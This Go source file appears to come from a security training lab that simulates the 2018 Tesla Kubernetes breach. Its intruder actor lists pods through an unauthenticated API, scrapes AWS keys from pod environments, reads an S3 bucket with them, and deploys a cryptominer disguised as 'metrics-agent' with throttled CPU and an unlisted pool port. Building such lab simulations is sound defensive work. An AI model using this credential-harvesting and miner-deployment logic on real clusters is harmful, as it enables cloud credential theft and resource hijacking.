// Package actors is Unlocked Console's cast: the intruder who finds the
// cluster's console open (Tesla, 2018), takes a pod's cloud keys and
// hides a cryptominer in the cluster; the telemetry service the keys
// belong to; the CI and monitoring that use the cluster as they should;
// and the mining pool the miner reports to.
package actors

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"

	"github.com/sakimori/sakimori/sim/aws/client"
	"github.com/sakimori/sakimori/sim/labkit"
)

func init() {
	labkit.RegisterScript("console-intruder", intruder)
	labkit.RegisterScript("console-ingest", ingest)
	labkit.RegisterScript("console-ops", ops)
	labkit.Register("console-pool", pool)
}

const (
	intruderKubectl = "kubectl/v1.11.0 (linux/amd64) kubernetes/91e7b4f"
	intruderBrowser = "Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0"
	intruderBoto    = "Boto3/1.7.61 Python/2.7.15 Linux/4.15.0 Botocore/1.10.61"
	// MinerName is the deployment the intruder makes, named to pass for
	// part of the cluster.
	MinerName = "metrics-agent"
)

// kube is a client of the lab's API server: anonymous, or with a token.
type kube struct {
	api, token, agent string
	hc                *http.Client
}

func (k kube) do(method, path string, body any) (int, []byte, error) {
	var r io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		r = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, k.api+path, r)
	if err != nil {
		return 0, nil, err
	}
	req.Header.Set("User-Agent", k.agent)
	req.Header.Set("Accept", "application/json")
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
		if method == http.MethodPatch {
			req.Header.Set("Content-Type", "application/strategic-merge-patch+json")
		}
	}
	if k.token != "" {
		req.Header.Set("Authorization", "Bearer "+k.token)
	}
	resp, err := k.hc.Do(req)
	if err != nil {
		return 0, nil, err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	return resp.StatusCode, b, err
}

// intruder plays the attack once anonymous access lets it, and again
// every quarter hour while the door stays open (a deleted miner comes
// back until the door is shut). Once the miner is deployed, this host
// plays its process too, reporting to the pool.
func intruder(ctx context.Context, env labkit.Env) error {
	hc := &http.Client{Timeout: 10 * time.Second}
	k := kube{api: env("KUBE_API"), agent: intruderKubectl, hc: hc}
	var mining sync.Once
	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 5*time.Second), 15*time.Minute, func() error {
		if err := intrudeOnce(env, k, hc); err != nil {
			return err
		}
		mining.Do(func() { go mine(ctx, env("POOL"), env("WALLET")) })
		return nil
	})
	return nil
}

func intrudeOnce(env labkit.Env, k kube, hc *http.Client) error {
	// The console first, as a browser: that is how it was found.
	if _, err := labkit.Get(hc, env("CONSOLE")+"/", intruderBrowser); err != nil {
		return err
	}
	code, body, err := k.do(http.MethodGet, "/api/v1/pods", nil)
	if err != nil || code != http.StatusOK {
		return fmt.Errorf("list pods: %d %v", code, err)
	}
	var pods struct{ Items []map[string]any }
	if err := json.Unmarshal(body, &pods); err != nil {
		return err
	}
	creds := keysIn(pods.Items)
	if creds == nil {
		return fmt.Errorf("no cloud keys in any pod")
	}
	c := &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: intruderBoto}
	if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
		return err
	}
	_, _ = c.S3("GET", "/", nil)
	_, _ = c.S3("GET", "/acme-vehicle-telemetry?list-type=2", nil)
	_, _ = c.S3("GET", "/acme-vehicle-telemetry/fleet/2018-02-01/vehicles.csv", nil)

	// The miner: low CPU, a pool on an unlisted port.
	miner := map[string]any{
		"apiVersion": "apps/v1", "kind": "Deployment",
		"metadata": map[string]any{"name": MinerName, "namespace": "kube-system", "labels": map[string]any{"app": MinerName}},
		"spec": map[string]any{
			"replicas": 1,
			"selector": map[string]any{"matchLabels": map[string]any{"app": MinerName}},
			"template": map[string]any{
				"metadata": map[string]any{"labels": map[string]any{"app": MinerName}},
				"spec": map[string]any{"containers": []any{map[string]any{
					"name": "agent", "image": "docker.io/metricsagent/agent:1.4",
					"command": []any{"/opt/agent/agent"},
					"args":    []any{"-o", "stratum+tcp://" + env("POOL_SHOWN"), "-u", env("WALLET"), "--cpu-max-threads-hint=25", "--donate-level=0"},
					"resources": map[string]any{
						"requests": map[string]any{"cpu": "100m", "memory": "64Mi"},
						"limits":   map[string]any{"cpu": "250m", "memory": "128Mi"},
					},
				}}},
			},
		},
	}
	code, _, err = k.do(http.MethodPost, "/apis/apps/v1/namespaces/kube-system/deployments", miner)
	if err != nil {
		return err
	}
	if code != http.StatusCreated && code != http.StatusConflict {
		return fmt.Errorf("create miner: %d", code)
	}
	return nil
}

// keysIn finds AWS keys written into a pod's environment.
func keysIn(pods []map[string]any) *client.Credentials {
	for _, p := range pods {
		spec, _ := p["spec"].(map[string]any)
		containers, _ := spec["containers"].([]any)
		for _, c := range containers {
			cm, _ := c.(map[string]any)
			env, _ := cm["env"].([]any)
			got := map[string]string{}
			for _, e := range env {
				em, _ := e.(map[string]any)
				if v, ok := em["value"].(string); ok {
					got[fmt.Sprint(em["name"])] = v
				}
			}
			if got["AWS_ACCESS_KEY_ID"] != "" && got["AWS_SECRET_ACCESS_KEY"] != "" {
				return &client.Credentials{AccessKeyID: got["AWS_ACCESS_KEY_ID"], SecretAccessKey: got["AWS_SECRET_ACCESS_KEY"]}
			}
		}
	}
	return nil
}

// mine reports to the pool every half minute, as a miner logs in for work.
func mine(ctx context.Context, addr, wallet string) {
	for labkit.Sleep(ctx, 30*time.Second) {
		conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
		if err != nil {
			continue
		}
		_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
		fmt.Fprintf(conn, `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":%q,"pass":"x","agent":"XMRig/2.5.2"}}`+"\n", wallet)
		_, _ = bufio.NewReader(conn).ReadString('\n')
		conn.Close()
	}
}

// pool answers a miner's login with a job, on an unlisted port.
func pool(ctx context.Context, args []string) error {
	addr := ":45700"
	if len(args) > 0 {
		addr = args[0]
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	go func() { <-ctx.Done(); ln.Close() }()
	labkit.Logger.Info("pool listening", "addr", addr)
	for n := 1; ; n++ {
		conn, err := ln.Accept()
		if err != nil {
			if ctx.Err() != nil {
				return nil
			}
			return err
		}
		go func(conn net.Conn, n int) {
			defer conn.Close()
			_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
			if _, err := bufio.NewReader(conn).ReadString('\n'); err != nil {
				return
			}
			fmt.Fprintf(conn, `{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"%08x","job":{"blob":"0707f7a4f0d605","job_id":"%d","target":"b88d0600"},"status":"OK"}}`+"\n", n*2654435761, n)
		}(conn, n)
	}
}

// ingest is the telemetry service the keys belong to, uploading the
// fleet's readings with them every minute, from the cluster's NAT address.
func ingest(ctx context.Context, env labkit.Env) error {
	c := &client.Client{Endpoint: env("CLOUD"), UserAgent: "aws-sdk-go/1.13.8 (go1.10; linux; amd64)",
		Creds: &client.Credentials{AccessKeyID: env("AWS_ACCESS_KEY_ID"), SecretAccessKey: env("AWS_SECRET_ACCESS_KEY")}}
	for n := 1; labkit.Sleep(ctx, time.Minute); n++ {
		body := []byte(fmt.Sprintf("vin,ts,lat,lon,soc\n5YJ3E1EA7JF%06d,%d,37.39,-122.15,0.%02d\n", n, time.Now().Unix(), 40+n%50))
		if res, err := c.S3("PUT", fmt.Sprintf("/acme-vehicle-telemetry/incoming/batch-%05d.csv", n), body); err != nil || !res.OK() {
			labkit.Logger.Info("ingest: upload failed", "result", res.String(), "err", err)
		}
	}
	return nil
}

// ops is the cluster's legitimate use: monitoring lists pods every
// minute, and CI rolls the report builder's settings every few minutes
// and made the report builder once, all with their own tokens.
func ops(ctx context.Context, env labkit.Env) error {
	hc := &http.Client{Timeout: 10 * time.Second}
	mon := kube{api: env("KUBE_API"), token: env("MONITORING_TOKEN"), agent: "Prometheus/2.2.1", hc: hc}
	ci := kube{api: env("KUBE_API"), token: env("CI_TOKEN"), agent: "kubectl/v1.10.2 (linux/amd64) kubernetes/81753b1", hc: hc}
	_, _, _ = ci.do(http.MethodPost, "/apis/apps/v1/namespaces/telemetry/deployments", reportBuilder())
	for n := 1; labkit.Sleep(ctx, time.Minute); n++ {
		_, _, _ = mon.do(http.MethodGet, "/api/v1/pods", nil)
		if n%3 == 0 {
			patch := map[string]any{"data": map[string]any{"report-window": fmt.Sprintf("%dh", 24+n%24)}}
			_, _, _ = ci.do(http.MethodPatch, "/api/v1/namespaces/telemetry/configmaps/report-builder", patch)
		}
	}
	return nil
}

func reportBuilder() map[string]any {
	return map[string]any{
		"apiVersion": "apps/v1", "kind": "Deployment",
		"metadata": map[string]any{"name": "report-builder", "namespace": "telemetry", "labels": map[string]any{"app": "report-builder"}},
		"spec": map[string]any{
			"replicas": 1,
			"selector": map[string]any{"matchLabels": map[string]any{"app": "report-builder"}},
			"template": map[string]any{
				"metadata": map[string]any{"labels": map[string]any{"app": "report-builder"}},
				"spec": map[string]any{"containers": []any{map[string]any{
					"name": "builder", "image": "registry.acme.example/telemetry/report-builder:3.1.0",
					"envFrom": []any{map[string]any{"configMapRef": map[string]any{"name": "report-builder"}}},
				}}},
			},
		},
	}
}
